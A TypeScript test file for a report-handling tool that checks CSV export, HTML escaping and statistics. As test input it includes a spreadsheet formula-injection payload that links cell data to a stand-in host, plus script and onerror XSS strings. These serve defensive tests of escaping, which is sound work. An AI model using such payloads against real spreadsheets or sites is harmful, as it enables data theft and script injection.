// The register and pages are built from strangers' text: nothing in it may
// become a formula, markup or a link elsewhere.
import t from 'tap';
import { casePage, escapeHtml, indexPage } from '../../reviewer/cases/html.ts';
import { answersAsText } from '../../reviewer/cases/form-labels.ts';
import type { CaseRecord } from '../../reviewer/cases/records.ts';
import { csvCell, registerCsv } from '../../reviewer/cases/register-csv.ts';
import { computeStatistics, statisticsTable } from '../../reviewer/stats/count.ts';
import { statisticsSvg } from '../../reviewer/stats/svg.ts';

function record(
  id: string,
  received: string,
  answers: Record<string, string | string[]>,
): CaseRecord {
  return {
    format: 'sealbox-case-v1',
    caseId: id,
    received,
    lastActivity: received,
    locale: 'en',
    form: 'reprisal-report',
    answers,
    replyPublicKey: '',
    authorPublicKey: '',
    status: 'received',
    items: [
      {
        itemId: id,
        kind: 'submission',
        date: received,
        folder: `01-submission-${received}`,
        attachments: [
          { file: 'a b#1.pdf', originalName: '<b>a b#1.pdf', type: 'application/pdf', size: 3 },
        ],
      },
    ],
    statements: [],
  };
}

const hostile = '=HYPERLINK("http://x.example/?"&A1,"click")';

t.test('CSV cells cannot become formulas', async (t) => {
  t.equal(csvCell(hostile), `"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
  for (const lead of ['=', '+', '-', '@', '\t', '\r']) t.match(csvCell(`${lead}1`), /^"'/);
  // Spreadsheets skip leading white space and invisible marks before a formula.
  for (const lead of [
    ' =',
    '\u00a0+',
    '\n-',
    '\r\n@',
    ' \u3000=',
    '\u200b=',
    '\u202e=',
    '\u0000=',
  ]) {
    t.match(csvCell(`${lead}1`), /^"'/, JSON.stringify(lead));
  }
  t.equal(csvCell('a =1'), '"a =1"');
  t.equal(csvCell('plain'), '"plain"');
  const csv = registerCsv([
    record('c1', '2026-01-02', { country: 'FR', when: hostile, reprisal_kinds: ['threats'] }),
  ]);
  t.ok(csv.startsWith('\ufeff"case"'));
  t.match(csv, /"c1","2026-01-02","2026-01-02","received","0","1","France",/);
  t.notMatch(csv, /,"=HYPERLINK/);
  t.ok(csv.endsWith('\r\n'));
});

t.test('pages escape everything and carry no script', async (t) => {
  t.equal(
    escapeHtml(`<a href="x" onclick='y'>&\``),
    '&#60;a href=&#34;x&#34; onclick=&#39;y&#39;&#62;&#38;&#96;',
  );
  const evil = record('c1', '2026-01-02', {
    country: '<img src=x onerror=alert(1)>',
    custom_q: '</dd><script>x</script>',
  });
  const index = indexPage([evil]);
  const page = casePage(evil, [
    { item: evil.items[0]!, message: '<script>alert(1)</script>', answers: evil.answers },
  ]);
  for (const html of [index, page]) {
    t.notMatch(html, /<script/i);
    t.notMatch(html, /<img/i);
    t.match(html, /default-src 'none'/);
  }
  t.match(page, /href="01-submission-2026-01-02\/attachments\/a%20b%231\.pdf"/);
  t.match(page, /custom_q/, 'unknown fields are shown, not dropped');
  t.match(page, /sent as “<bdi>&#60;b&#62;a b#1.pdf<\/bdi>”/);
});

t.test('answers read as text, known fields first, unknown kept', async (t) => {
  const text = answersAsText({
    zeta: 'z',
    consent_public: 'anonymised',
    un_body: 'treaty_bodies',
    when: '',
  });
  t.match(
    text,
    /^UN body engaged:\n {2}Treaty bodies\n\nWhen:\n {2}\(no answer\)\n\nConsent to public reporting:\n {2}Anonymised only\n\nzeta:\n {2}z\n/,
  );
});

t.test('statistics count cases, several kinds per case, months in order', async (t) => {
  const records = [
    record('a', '2026-02-10', {
      country: 'BY',
      un_body: 'treaty_bodies',
      reprisal_kinds: ['threats', 'travel_ban', 'threats'],
    }),
    record('b', '2026-01-03', {
      country: 'BY',
      un_body: 'unknown_body',
      reprisal_kinds: 'threats',
    }),
    record('c', '2025-12-31', { country: 'EG' }),
    record('d', '2026-02-01', {}),
  ];
  const stats = computeStatistics(records, '2026');
  t.equal(stats.cases, 3);
  const [country, body, kinds, months] = stats.tallies;
  t.same(country!.rows, [
    { label: 'Belarus', count: 2 },
    { label: '(not answered)', count: 1 },
  ]);
  t.same(body!.rows.map((r) => r.label).sort(), [
    '(not answered)',
    'Treaty bodies',
    'unknown_body',
  ]);
  t.same(kinds!.rows, [
    { label: 'Threats', count: 2 },
    { label: '(not answered)', count: 1 },
    { label: 'Travel ban', count: 1 },
  ]);
  t.same(months!.rows, [
    { label: '2026-01', count: 1 },
    { label: '2026-02', count: 2 },
  ]);
  t.equal(computeStatistics(records).cases, 4);
  t.match(statisticsTable(stats), /Cases by country\n-+ {2}-----\nBelarus +2\n/);
  const svg = statisticsSvg(
    computeStatistics([record('x', '2026-01-01', { country: '<script>' })]),
  );
  t.notMatch(svg, /<script/);
  t.match(svg, /&#60;script&#62;/);
  t.match(statisticsSvg(computeStatistics([])), /\(none\)/);
});
